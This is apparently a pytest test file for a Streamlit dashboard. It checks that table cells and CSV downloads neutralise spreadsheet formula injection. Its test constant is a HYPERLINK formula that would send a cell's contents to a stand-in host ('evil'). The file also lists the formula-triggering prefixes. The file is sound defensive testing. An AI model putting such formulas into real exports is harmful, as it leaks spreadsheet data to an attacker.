"""Tables shown on the pages leave the app safe: Streamlit's own "Download as CSV" writes the
values shown, so no text cell may start like a formula, whatever an operator or admin typed."""

from __future__ import annotations

import ast
from pathlib import Path

import pytest
from sqlalchemy import update
from streamlit.testing.v1 import AppTest

from db.engine import PROJECT_DIR
from db.models import Aktivitas, Satker, SatkerNama
from db.reference import find_satker
from tests.test_pages import open_app, session_on, show
from ui.halaman import HALAMAN
from ui.tabel import netralkan, netralkan_baris

RUMUS = '=HYPERLINK("http://evil/?"&A1,"klik")'
AWALAN_BERBAHAYA = ("=", "+", "-", "@", "\t", "\r")
SATKER_DIUBAH = "Polres Kediri Kota"
SQLITE_ONLY = pytest.mark.parametrize("backend", ["sqlite"], indirect=True)


@pytest.mark.parametrize(
    ("nilai", "aman"),
    [
        (RUMUS, "'" + RUMUS),
        ("+62 812", "'+62 812"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Polres Batu", "Polres Batu"),
        ("=", "="),  # the movement mark "unchanged": a lone symbol is no formula
        (-3, -3),
        (None, None),
    ],
)
def test_netralkan(nilai: object, aman: object) -> None:
    assert netralkan(nilai) == aman


def test_netralkan_baris_keeps_columns_and_order() -> None:
    assert netralkan_baris([{"Satker": RUMUS, "Nilai": 3}]) == [{"Satker": "'" + RUMUS, "Nilai": 3}]


def test_a_column_named_by_a_label_an_admin_typed_is_neutralised_too() -> None:
    """Riwayat 12 bulan names its columns by kategori label; the CSV's first row is the names."""
    assert netralkan_baris([{"Bulan": "Mei 2024", RUMUS: 3}]) == [{"Bulan": "Mei 2024", "'" + RUMUS: 3}]


def _panggilan(berkas: Path, nama: str) -> list[int]:
    """Lines of ``berkas`` that call ``….nama(…)``."""
    tree = ast.parse(berkas.read_text(encoding="utf-8"))
    return [
        node.lineno
        for node in ast.walk(tree)
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == nama
    ]


@pytest.mark.parametrize("nama", ["dataframe", "data_editor", "table", "download_button"])
def test_pages_show_tables_and_downloads_only_through_the_ui_helpers(nama: str) -> None:
    """st.dataframe only in ui/tabel.py and st.download_button only in ui/unduh.py, where text is
    neutralised and files are built on click and audited; and in ui/berkas.py, whose original-file
    download is built on click too and checked and audited by db.berkas_asli itself."""
    boleh = {"tabel.py", "unduh.py"} | ({"berkas.py"} if nama == "download_button" else set())
    berkas = [PROJECT_DIR / "dashboard.py", *sorted((PROJECT_DIR / "pages").glob("*.py"))]
    berkas += [p for p in sorted((PROJECT_DIR / "ui").glob("*.py")) if p.name not in boleh]
    found = {str(p.relative_to(PROJECT_DIR)): lines for p in berkas if (lines := _panggilan(p, nama))}
    assert found == {}


def _isi_data_berbahaya(url: str) -> int:
    """A satker named like a formula, and every Judul of its activities a formula; its id."""
    with session_on(url) as session, session.begin():
        satker = find_satker(session, SATKER_DIUBAH)
        assert satker is not None
        satker_id = satker.id
        session.execute(update(Satker).where(Satker.id == satker_id).values(nama=RUMUS))
        session.execute(update(SatkerNama).where(SatkerNama.satker_id == satker_id).values(nama=RUMUS))
        session.execute(update(Aktivitas).where(Aktivitas.satker_id == satker_id).values(judul=RUMUS))
    return satker_id


def _sel_teks(app: AppTest) -> list[tuple[int, str, str]]:
    """(table number, column, value) of every text cell of every table on the page."""
    return [
        (nomor, kolom, nilai)
        for nomor, frame in enumerate(app.dataframe)
        for kolom in frame.value.columns
        for nilai in frame.value[kolom]
        if isinstance(nilai, str)
    ]


@SQLITE_ONLY
def test_no_table_on_any_page_shows_a_formula(demo_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    satker_id = _isi_data_berbahaya(demo_url)
    app = open_app(demo_url, monkeypatch)
    dilihat = 0
    for halaman in HALAMAN:
        if halaman.hanya_nasional:
            continue
        show(app, halaman.nama)
        if halaman.nama in {"profil_satker", "unggah"}:
            key = "profil_satker" if halaman.nama == "profil_satker" else "unggah_satker"
            app.selectbox(key=key).set_value(satker_id).run()
            assert not app.exception, [e.value for e in app.exception]
        sel = _sel_teks(app)
        assert [s for s in sel if len(s[2]) > 1 and s[2].startswith(AWALAN_BERBAHAYA)] == [], halaman.nama
        dilihat += sum(1 for s in sel if s[2] == "'" + RUMUS)
    # The hostile values did reach the tables (ranking, profile, evidence, satker list…), neutralised.
    assert dilihat >= 5
